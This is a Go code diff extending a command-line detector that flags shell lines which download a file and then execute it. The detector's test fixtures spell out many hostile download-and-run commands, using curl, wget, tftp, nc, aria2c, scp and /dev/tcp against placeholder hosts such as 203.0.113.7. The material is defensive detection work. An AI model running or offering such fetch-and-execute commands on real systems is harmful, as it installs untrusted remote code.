@@ -17,14 +17,14 @@ var runFetch = Detector{
 	Detect: fetchRun,
 	Fire: append(lines(coi.Warning,
 		"curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && /tmp/a", "wget https://example.com/x.sh; bash x.sh", "curl -sO https://example.com/atomic.sh; chmod +x atomic.sh | bash atomic.sh",
-		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "pip install http://203.0.113.7/evil.tar.gz", "wget -q http://203.0.113.7/a.sh -P /tmp && bash /tmp/a.sh", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q",
+		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "pip install http://203.0.113.7/evil.tar.gz", "wget -q http://203.0.113.7/a.sh -P /tmp && bash /tmp/a.sh", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q", "aria2c -d /tmp -o x http://203.0.113.7/x && sh /tmp/x", "tftp 203.0.113.7 -c get x /tmp/x; sh /tmp/x", "whois -h 203.0.113.7 -p 8443 x > /tmp/x.out", "exec 3<>/dev/tcp/203.0.113.7/80; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x",
 	), Sample{Level: coi.Warning, Events: []event.Event{
 		{Type: event.Exec, PID: 5, PPID: 1, Exe: "/usr/bin/bash", Argv: []string{"bash"}},
 		{Type: event.Exec, PID: 6, PPID: 5, Exe: "/usr/bin/curl", Argv: []string{"curl", "-o", "/tmp/z", "https://example.com/z"}},
 		{Type: event.Write, PID: 6, Path: "/tmp/z", Op: "write"},
 		{Type: event.Exec, PID: 7, PPID: 5, Exe: "/tmp/z", Argv: []string{"/tmp/z"}},
 	}}),
-	Quiet: lines("", "pip install https://example.com/x.whl", "npm install --registry http://localhost:4873 x", "pip install --index-url http://203.0.113.7/simple x", "curl -o x.tgz https://example.com/x.tgz && tar xf x.tgz", "npm ci && node index.js", "wget https://example.com/a.deb", "go install example.com/x@latest && x", "curl -LO https://example.com/data.csv; python3 analyse.py data.csv"),
+	Quiet: lines("", "pip install https://example.com/x.whl", "npm install --registry http://localhost:4873 x", "pip install --index-url http://203.0.113.7/simple x", "curl -o x.tgz https://example.com/x.tgz && tar xf x.tgz", "npm ci && node index.js", "whois example.com > x.txt", "whois -h whois.ripe.net 192.0.2.1 | less", "wget https://example.com/a.deb", "go install example.com/x@latest && x", "curl -LO https://example.com/data.csv; python3 analyse.py data.csv"),
 }
 
 func fetchRun(ev event.Event, v track.View) []Finding {
@@ -44,6 +44,9 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 	}
 	got := map[string]bool{}
 	for _, s := range c.Simples {
+		if s.Is("whois", "finger") && whoisFile(s) {
+			return one(*say(s, coi.Warning, "file fetched by "+s.Name).to(outHost(s)))
+		}
 		if p := ranFile(s); p != "" && got[p] {
 			return one(*say(s, coi.Warning, "file fetched in the same line is run").at(p, command.Exec))
 		}
@@ -61,6 +64,13 @@ func fetchedFiles(s *command.Simple) []string {
 		out = append(out, p)
 	}
 	for _, d := range append([]*command.Simple{s}, s.Stdin...) {
+		if command.DevNet(d.FDs[0]) && !command.Loopback(command.DevNetHost(d.FDs[0])) {
+			for _, a := range s.Accesses() {
+				if a.Op == command.Write && !strings.HasPrefix(a.Path, "/dev/") {
+					out = append(out, a.Path)
+				}
+			}
+		}
 		if d.Class() == program.Relay && outHost(d) != "" && d == s {
 			for _, r := range s.Redirs {
 				if r.FD == 1 && strings.HasPrefix(r.Op, ">") && strings.HasPrefix(r.Path, "/") && !strings.HasPrefix(r.Path, "/dev/") {
@@ -112,6 +122,24 @@ func strangePackage(s *command.Simple) string {
 	return ""
 }
 
+// whoisFile reports a query to a server and port of one's own choice whose
+// answer goes into a file.
+func whoisFile(s *command.Simple) bool {
+	p := program.Parse(program.Spec{Short: "hp", Long: []string{"host", "port"}}, s.Argv, false)
+	if len(p.Values("h", "host")) == 0 || len(p.Values("p", "port")) == 0 {
+		return false
+	}
+	if s.FDs[1] == "pipe" {
+		return true
+	}
+	for _, r := range s.Redirs {
+		if r.FD == 1 && strings.HasPrefix(r.Op, ">") && r.Path != "/dev/null" {
+			return true
+		}
+	}
+	return false
+}
+
 // broughtFile is the file that tftp or a remote copy leaves behind.
 func broughtFile(s *command.Simple) string {
 	p := s.Parsed()
@@ -121,6 +149,11 @@ func broughtFile(s *command.Simple) string {
 			return s.Abs(p.Rest[1])
 		}
 	case "tftp", "ftpget":
+		for i, a := range s.Argv {
+			if a == "get" && i+1 < len(s.Argv) { // tftp HOST -c get FILE [LOCAL]
+				return s.Abs(s.Argv[min(i+2, len(s.Argv)-1)])
+			}
+		}
 		q := program.Parse(program.Spec{Short: "rlbtu"}, s.Argv, false)
 		if v := append(q.Values("l"), q.Values("r")...); len(v) > 0 {
 			return s.Abs(base(v[0]))
